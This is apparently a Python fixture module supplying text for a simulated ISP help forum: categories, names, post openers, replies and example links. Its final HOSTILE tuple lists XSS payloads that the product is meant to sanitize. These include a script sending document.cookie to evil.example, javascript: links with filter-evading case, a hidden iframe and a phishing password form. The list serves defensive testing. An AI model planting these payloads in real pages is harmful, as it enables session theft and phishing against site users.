"""The words of the community simulator around a bulletin's problem: categories, names and
handles, openers, what was tried first, closers, replies, links, screenshots, hostile HTML.

Only data; ``sims.community_seed`` combines it, and the problem families of
``sims.community_families``, with a seeded RNG. Domains are reserved example domains
(RFC 2606).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True, slots=True, kw_only=True)
class Category:
    id: int
    name: str
    slug: str
    color: str
    description: str
    restricted: bool = False  # read-restricted (staff only): sims.community_markup


def _category(cid: int, name: str, slug: str, color: str, description: str) -> Category:
    return Category(id=cid, name=name, slug=slug, color=color, description=description)


CATEGORIES: Final = (
    _category(1, "Uncategorized", "uncategorized", "0088CC", ""),
    _category(5, "Internet & Wi-Fi", "internet-wifi", "25AAE2", "Speed, coverage, dropouts."),
    _category(6, "Routers & Modems", "routers-modems", "F1592A", "Hubs, modems, ONTs, lights."),
    _category(7, "Firmware & Updates", "firmware", "9EB83B", "Updates, rollbacks, resets."),
    _category(8, "Setup & Installation", "setup", "3AB54A", "New lines, moves, first day."),
    _category(9, "TV & Streaming", "tv-streaming", "8C6238", "TV boxes, recordings, apps."),
    _category(10, "Mobile & Data", "mobile-data", "652D90", "SIMs, eSIMs, APNs, roaming."),
    _category(11, "Billing & Account", "billing", "BF1E2E", "Bills, payments, discounts."),
    _category(12, "Outages & Service Status", "outages", "ED207B", "Faults and planned work."),
    _category(13, "Email", "email", "12A89D", "Mail apps, servers, spam."),
    _category(14, "Home Phone", "home-phone", "808281", "Landlines, VoIP, handsets."),
)

FIRST_NAMES: Final = (
    "Mike", "Sarah", "Priya", "Tom", "Aisha", "Dave", "Linda", "Jonas", "Maria", "Kwame",
    "Chloe", "Raj", "Grace", "Ollie", "Fatima", "Ben", "Hannah", "Luis", "Yuki", "Gareth",
    "Nadia", "Pete", "Sinead", "Ahmed",
)  # fmt: skip
LAST_NAMES: Final = (
    "Hughes", "Patel", "Okafor", "Jensen", "Murphy", "Kowalski", "Nguyen", "Rossi",
    "Schmidt", "Evans", "Ali", "Byrne", "Costa", "Fischer", "Clarke", "Mensah",
)  # fmt: skip
HANDLES: Final = (
    "routerwhisperer", "fibre_fan", "nightshift_nerd", "wifi_wrangler", "grumpy_gran",
    "packetloss", "dad_it_dept", "the_cable_guy", "tinkerer42", "offgrid_olly",
)  # fmt: skip

OPENERS: Final = (
    "Posting this in case it saves someone else a weekend.",
    "Long-time customer, first post here.",
    "I spent two evenings on this before I found the cause.",
    "Support got me halfway there; the rest I worked out myself.",
    "Quick write-up for the next person who searches for this.",
    "We both work from home, so this one hurt.",
    "My dad rang me about this three times, so I finally sorted it properly.",
)
WHEN: Final = (
    "right after the price change letter",
    "about three weeks ago",
    "the day after a power cut",
    "when the clocks changed",
    "after the engineer's visit",
    "out of nowhere on a Sunday",
)
TRIED: Final = (
    "Rebooted everything (router first, then the devices)",
    "Factory reset",
    "Waited 40 minutes on hold",
    "Swapped the Ethernet cable",
    "Updated the laptop's network driver",
    "Forgot the network and joined again",
    "Ran the line test in the app (it said all fine)",
    "Tried another power socket",
)
CLOSERS: Final = (
    "Hope this helps someone.",
    "Three weeks without a single problem since.",
    "If it does not work for you, post your model below and I'll try to help.",
    "Thanks to the agent on chat who pointed me the right way.",
    "Marking this as solved.",
)
REPLIES: Final = (
    "Same here, this fixed it for me too. Thanks!",
    "Same fix worked for {subject} too.",
    "Saved me a call to support. Thank you.",
    "Can confirm, the second step was the one that did it for me.",
    "Bookmarked. My neighbour has exactly this problem.",
)
LINKS: Final = (
    ("the status page", "https://status.example.net/"),
    ("the maker's support article", "https://support.example.com/kb/wifi-channels"),
    ("the official setup guide", "https://www.example.net/help/router-setup"),
    ("this older thread", "https://community.example.net/t/wifi-drops-evenings/88"),
)
SCREENSHOTS: Final = (
    "wireless-settings",
    "status-page",
    "line-test-result",
    "wan-settings",
    "invoice-part-period",
)

# Real user content is hostile sometimes; the product must neutralize all of these.
HOSTILE: Final = (
    "<p>Update:</p><script>fetch('https://evil.example/c?'+document.cookie)</script>",
    '<p><img src="https://evil.example/x.png" onerror="alert(document.domain)"></p>',
    "<p>Fixed firmware: <a href=\"javascript:alert('pwned')\">download it here</a></p>",
    "<p onmouseover=\"document.body.innerHTML='hacked'\">Hover for the secret menu.</p>",
    '<iframe src="https://evil.example/login" width="1" height="1"></iframe>',
    "<p><a href=\" JaVaScRiPt:void(fetch('//evil.example'))\">Open the hidden settings</a></p>",
    "<style>body{display:none}</style><p>Styling trick from the forum.</p>",
    '<form action="https://evil.example/phish"><input name="password" placeholder="Password">'
    "</form>",
    "<svg><script>alert(1)</script></svg><p>Diagram above.</p>",
)
